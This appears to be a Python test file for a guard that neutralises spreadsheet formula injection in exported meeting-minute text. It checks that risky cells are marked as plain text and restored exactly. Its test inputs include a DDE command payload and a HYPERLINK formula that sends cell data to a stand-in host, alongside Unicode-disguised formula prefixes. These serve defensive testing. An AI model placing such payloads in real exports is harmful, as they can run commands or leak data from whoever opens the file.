"""No spreadsheet runs what minutes say, and the text survives its guard to the character."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ui.exports.formulas import guarded, may_run, unguarded

HOSTILE = st.text(alphabet="=+-@\t\r\n＝＋－＠﹢ \u00a0\u200b\ufeff'\"“’ab1£%,.|", max_size=8)


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "＝1+1", "＋1", "－1",
        "＠SUM(A1)", "﹦1", "'=1", '"=1', "“=1”", "‘-1", "\ufeff=1", "\u200b=1", "\u202e=1",
        "=cmd|' /C calc'!A0", "+cmd|'x'!A0",
        '=HYPERLINK("http://sink.example/?"&A1,"x")', "-", "-x", "- to report back", "''=1",
    ],
)  # fmt: skip
def test_what_a_spreadsheet_might_run_is_marked_as_text(text: str) -> None:
    assert guarded(text) == f"'{text}"
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize(
    "text",
    [
        "",
        "The Clerk would report",
        "'quoted'",
        "“we’d look”",
        "a=1",
        "-3",
        "+5",
        "-1,204.5",
        "-£1,200",
        "-12%",
        "1 - 2",
    ],
)
def test_words_and_plain_numbers_stay_as_they_are(text: str) -> None:
    assert guarded(text) == text


@given(st.one_of(st.text(max_size=20), HOSTILE))
def test_every_text_survives_its_guard(text: str) -> None:
    assert unguarded(guarded(text)) == text


@given(st.one_of(st.text(max_size=20), HOSTILE))
def test_no_guarded_cell_begins_a_formula_whatever_its_width(text: str) -> None:
    cell = guarded(text)
    folded = unicodedata.normalize("NFKC", cell).strip()
    number = folded.strip("+-").replace(",", "").replace(".", "").strip("£%").isdigit()
    assert not folded.startswith(("=", "+", "-", "@")) or number
    assert cell == text or may_run(text)
